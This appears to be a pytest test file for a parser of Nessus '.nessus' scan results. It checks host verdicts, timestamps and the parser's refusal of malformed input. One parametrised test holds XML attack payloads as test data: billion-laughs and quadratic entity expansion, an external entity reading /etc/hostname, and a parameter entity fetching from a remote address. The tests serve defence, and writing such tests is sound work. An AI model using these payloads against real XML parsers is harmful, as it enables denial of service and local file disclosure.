"""`.nessus` files: what they show of a host, and that they never prove one to be left out."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from scantui.security_center.model import ResultState
from scantui.security_center.read import read_scan_result

from .files import ALIVE_TEXT, ASSESSED, DEAD_TEXT, SCAN, SCAN_INFO, WHOLE, address, capture, host, item, nessus, read, said, tags, zipped

_IP = "10.0.0.5"


@pytest.mark.parametrize(
    ("asked", "expected"),
    [("10.0.0.4", "scanned"), (_IP, "dead"), ("10.0.0.6", "dead"), ("10.0.0.7", "scanned"), ("10.0.0.50", "unknown: ")],
)
def test_outcomes(asked: str, expected: str) -> None:
    assert said(WHOLE, asked).startswith(expected)
    assert said(b"\xef\xbb\xbf" + WHOLE, asked).startswith(expected)


def test_facts() -> None:
    facts = read(WHOLE, _IP, "10.0.0.50")
    assert facts.name.raw == SCAN
    assert facts.state is ResultState.UNKNOWN
    assert facts.started_at is not None and facts.started_at.isoformat() == "2026-11-20T01:00:00+00:00"  # of another host
    assert facts.finished_at is not None and facts.finished_at.isoformat() == "2026-11-20T03:00:00+00:00"
    assert (facts.total_addresses, facts.scanned_addresses) == (None, None)
    assert "considered as dead" in facts.details[address(_IP)].raw
    assert facts.gaps == ()


def test_a_time_without_a_zone_is_none() -> None:
    body = nessus(host(_IP, properties=tags(host_ip=_IP, HOST_START="Wed Feb 13 17:01:00 2019", HOST_END_TIMESTAMP="soon")))
    assert (read(body, _IP).started_at, read(body, _IP).finished_at) == (None, None)
    iso = tags(host_ip=_IP) + '<tag name="HOST-START">2026-11-20T01:00:00Z</tag><tag name="HOST-END">2026-11-20T02:00:00</tag>'
    facts = read(nessus(host(_IP, properties=iso)), _IP)
    assert facts.started_at is not None
    assert facts.finished_at is None


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        pytest.param(host(_IP, SCAN_INFO), "scanned", id="19506 alone"),
        pytest.param(host(_IP, item("22964", "ssh")), "scanned", id="another plugin alone"),
        pytest.param(host(_IP, item("10180", ALIVE_TEXT)), "unknown: the file reports only the ping", id="10180 alive alone"),
        pytest.param(host(_IP, item("10180")), "unknown: the file reports only the ping", id="10180 without text"),
        pytest.param(host(_IP, item("10180", "The remote host is considered as dead - not scanning")), "dead", id="older text"),
        pytest.param(host(_IP, item("10180", f"The remote host ({_IP}) is considered\nas dead")), "dead", id="folded text"),
        pytest.param(host(_IP, item("10180", DEAD_TEXT) + SCAN_INFO), "unknown: the file says of", id="dead and assessed"),
        pytest.param(host(_IP, ASSESSED, tags(host_ip=_IP, ping_failed="true")), "unknown: the file says", id="tag against items"),
        pytest.param(host(_IP, ""), "unknown: the file lists the address but reports nothing", id="no items"),
        pytest.param(host(_IP, properties=""), "scanned", id="no tags, name is the address"),
        pytest.param(host(_IP, properties=tags(host_ip="10.0.0.9")), "unknown: the host in the file is named", id="name against tag"),
        pytest.param(host("10.0.0.9", properties=tags(host_ip=_IP)), "unknown: the host in the file is named", id="tag against name"),
        pytest.param(host(_IP, properties=tags(host_ip="nonsense")), "unknown: the host in the file is named", id="tag is no address"),
        pytest.param(host("10.0.0.55") + host("10.0.0.50"), "unknown: the .nessus file does not list", id="only longer addresses"),
        pytest.param(host(_IP) + host(_IP), "scanned", id="twice alike"),
        pytest.param(host(_IP) + host(_IP, item("10180", DEAD_TEXT)), "unknown: the file lists the address more", id="twice, disagreeing"),
        pytest.param(host(_IP) + host(_IP, ""), "unknown: ", id="twice, once empty"),
        pytest.param(host(_IP, item("99", f"{DEAD_TEXT}")), "scanned", id="dead text of another plugin"),
    ],
)
def test_one_entry(entry: str, expected: str) -> None:
    assert said(nessus(host("10.0.0.4"), entry, host("10.0.0.8")), _IP).startswith(expected)


def test_tags_after_the_items_count_too() -> None:
    late = f'<ReportHost name="worker">{SCAN_INFO}<HostProperties>{tags(host_ip=_IP)}</HostProperties></ReportHost>'
    assert said(nessus(late), _IP) == "scanned"


def test_several_reports_and_other_scans() -> None:
    two = WHOLE.replace(b"</Report>\n", b'</Report>\n<Report name="other"></Report>\n')
    assert "several reports" in said(two, _IP)
    assert "another scan" in said(WHOLE, _IP, scan="ALC_all_envs_public_import")
    assert said(nessus(host(_IP), report="weekly"), _IP) == "scanned"
    assert "another name" in read(nessus(host(_IP), report="weekly"), _IP).gaps[0].why
    assert read(nessus(host(_IP), report="weekly"), _IP, scan="").name.raw == "weekly"
    assert "no host at all" in read(nessus(), _IP).gaps[0].why


@pytest.mark.parametrize("step", [1, 7, 64, 1000])
def test_the_size_of_the_chunks_does_not_matter(step: int) -> None:
    from scantui.security_center.nessus_xml import read_nessus

    wanted = frozenset({address(_IP), address("10.0.0.7")})
    file = read_nessus((WHOLE[at : at + step] for at in range(0, len(WHOLE), step)), wanted)
    assert [host.name for host in file.hosts] == [_IP, "prod-dal10-carrier2-worker-8001.alchemy.ibm.com"]
    assert file.host_count == 4


def test_large_hosts_that_nobody_asked_for() -> None:
    """Beyond 1 MiB of a skipped host the reader looks again; the hosts after it are still found."""
    large = host("10.0.0.4", item("33", "word " * 3000) * 200)
    body = nessus(large, host(_IP), large)
    assert len(large) > 2 * 1024 * 1024
    assert said(body, _IP) == "scanned"
    assert read(body, _IP).gaps == ()


def test_what_only_looks_like_an_end_changes_nothing() -> None:
    for trap in ("<![CDATA[</ReportHost>]]>", "<!-- </ReportHost> -->", "&lt;/ReportHost>"):
        body = nessus(host("10.0.0.4", item("33", trap) + item("34")), host(_IP, item("33", trap)))
        assert said(body, _IP) == "scanned", trap


_INNER = f'<ReportHost name="{_IP}"><HostProperties></HostProperties>{SCAN_INFO}</ReportHost>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))


def _root(content: bytes, doctype: bytes = b"", attribute: bytes = b"") -> bytes:
    return b'<?xml version="1.0"?>' + doctype + b"<NessusClientData_v2" + attribute + b">" + content + b"</NessusClientData_v2>"


_HUGE_ENTITY = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 60_000 + b'">]>'
_FILE_ENTITY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
_PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'
_WHOLE_INSIDE = f"<NessusClientData_v2><Report>{_INNER}</Report></NessusClientData_v2>"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        # SAFETY B.4, 24 and 25
        pytest.param(_root(b"&l8;", f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'.encode()), "document type", id="billion laughs"),
        pytest.param(_root(b"&a;" * 1000, _HUGE_ENTITY), "document type", id="quadratic"),
        pytest.param(_root(b"&a;", _FILE_ENTITY), "document type", id="external entity"),
        pytest.param(_root(b"", _PARAMETER), "document type", id="parameter entity"),
        pytest.param(b"<!DOCTYPE NessusClientData_v2>" + WHOLE.split(b"?>", 1)[1], "document type", id="bare document type"),
        pytest.param(_root(b"", attribute=b' a="' + b"x" * 3_000_000 + b'"'), "longer than 1 MiB", id="huge attribute"),
        pytest.param(_root(b"<a>" * 100_000 + b"</a>" * 100_000), "64 deep", id="deep"),
        pytest.param(nessus(host(_IP, "<a>" * 100_000 + "</a>" * 100_000)), "64 deep", id="deep inside the host"),
        pytest.param(b"<!-- " + b"x" * 3_000_000 + b" -->" + WHOLE, "longer than 1 MiB", id="huge comment"),
        # damage
        pytest.param(b"<html><body>Log in</body></html>", "web page", id="web page"),
        pytest.param(b"<!DOCTYPE html><html></html>", "web page", id="web page with its type"),
        pytest.param(b"<NessusClientData><Report/></NessusClientData>", "version 1", id="version 1"),
        pytest.param(b"<nmaprun></nmaprun>", "no .nessus file", id="another root"),
        pytest.param(WHOLE + WHOLE.split(b"?>", 1)[1], "after its last tag", id="two documents"),
        pytest.param(WHOLE + b"junk", "after its last tag", id="junk at the end"),
        pytest.param(WHOLE.replace(b"</ReportHost>", b"", 1), "not well-formed", id="an end tag lost"),
        pytest.param(WHOLE.replace(b"</HostProperties>", b"", 1), "not well-formed", id="another end tag lost"),
        pytest.param(WHOLE.replace(b"Some words", b"Some \xff words", 1), "not well-formed", id="not UTF-8"),
        pytest.param(WHOLE.decode().encode("utf-16"), "neither a .nessus file", id="UTF-16"),
        pytest.param(nessus(host("10.0.0.4", _INNER)), "hosts inside hosts", id="host inside a skipped host"),
        pytest.param(nessus(host(_IP, _INNER)), "hosts inside hosts", id="host inside the host"),
        pytest.param(nessus(host("10.0.0.4", _WHOLE_INSIDE)), "hosts inside hosts", id="a whole file inside a skipped host"),
        pytest.param(_root(_INNER.encode()), "hosts inside hosts", id="host outside a report"),
        pytest.param(nessus(host(_IP) * 200), "over and over", id="one host 200 times"),
    ],
)
def test_attacks_and_damage_are_refused(body: bytes, words: str) -> None:
    assert said(body, _IP).startswith("unreadable: ")
    assert words in said(body, _IP)


def test_deep_nesting_inside_a_skipped_host_does_no_harm() -> None:
    deep = host("10.0.0.4", "<a>" * 2_000_000 + "</a>" * 2_000_000)
    assert said(nessus(host(_IP), deep), _IP).startswith("unreadable: ")


def test_cut_at_every_percent_it_is_unreadable() -> None:
    """SAFETY B.4, 26: no verdict before the end tag of the root, whatever was seen until then."""
    for body in (WHOLE, nessus(*(host(f"10.0.1.{n}") for n in range(99)), host(_IP))):
        for percent in range(100):
            for asked in ("10.0.0.4", _IP, "10.0.0.99"):
                assert said(body[: len(body) * percent // 100], asked).startswith("unreadable: "), percent


def test_a_line_less_is_never_a_new_verdict() -> None:
    """Metamorphic rule of SAFETY B.7: with any line dropped or doubled, an outcome stays or becomes unknown; nothing becomes absent."""
    lines = WHOLE.split(b"\n")
    for asked, expected in (("10.0.0.4", "scanned"), (_IP, "dead"), ("10.0.0.6", "dead"), ("10.0.0.7", "scanned")):
        for number in range(len(lines)):
            for damaged in (lines[:number] + lines[number + 1 :], lines[: number + 1] + lines[number:]):
                words = said(b"\n".join(damaged), asked)
                assert words == expected or words.startswith("un"), (number, words)


def test_a_text_without_end_is_kept_in_part_only() -> None:
    body = nessus(host(_IP, item("10180", DEAD_TEXT.format(_IP) + "x" * 5_000_000)))
    facts = read(body, _IP)
    assert said(body, _IP) == "dead"
    assert len(facts.details[address(_IP)].raw) <= 64 * 1024


@pytest.mark.parametrize("make", [lambda body: body, zipped])
def test_a_file_of_the_future_answers_nothing(make: Callable[[bytes], bytes]) -> None:
    body = make(nessus(host("10.0.0.4", properties=tags(host_ip="10.0.0.4", HOST_END_TIMESTAMP="1795165501"))))
    assert said(body, "10.0.0.4") == "unknown: the result says that it ended after it was captured: one of the two times is wrong"


_SAID = {"started": "2026-11-20T01:30:00Z", "finished": "2026-11-20T03:10:00Z", "state": "Partial"}


@pytest.mark.parametrize(
    ("changes", "state", "finished"),
    [
        pytest.param({}, ResultState.PARTIAL, "03:10", id="as said"),
        pytest.param({"state": "Gone fishing"}, ResultState.UNKNOWN, "03:10", id="a state that nobody knows"),
        pytest.param({"finished": "2026-11-20T02:00:00Z"}, ResultState.PARTIAL, "02:00", id="clocks apart"),
        pytest.param({"finished": "2026-11-20T01:59:59Z"}, ResultState.UNKNOWN, "03:00", id="the file ends later"),
        pytest.param({"started": "2026-11-20T04:00:01Z", "finished": "2026-11-20T05:00:00Z"}, ResultState.UNKNOWN, "03:00", id="older"),
        pytest.param({"finished": ""}, ResultState.UNKNOWN, "03:00", id="no end said"),
        pytest.param({"started": "at one"}, ResultState.UNKNOWN, "03:00", id="no beginning said"),
    ],
)
def test_how_a_downloaded_scan_ended_is_what_was_said_of_it(changes: dict[str, str], state: ResultState, finished: str) -> None:
    """The file's last host ended at 3:00; a file of another night must not become last night's."""
    file = capture(zipped(WHOLE))
    facts = read_scan_result(replace(file, question={"scan": SCAN} | _SAID | changes), [address(_IP)])
    assert (facts.state, f"{facts.finished_at:%H:%M}") == (state, finished)
    bare = nessus(host("10.0.0.4", properties=tags(host_ip="10.0.0.4")))
    assert read_scan_result(replace(capture(bare), question={"scan": SCAN} | _SAID), []).finished_at is None
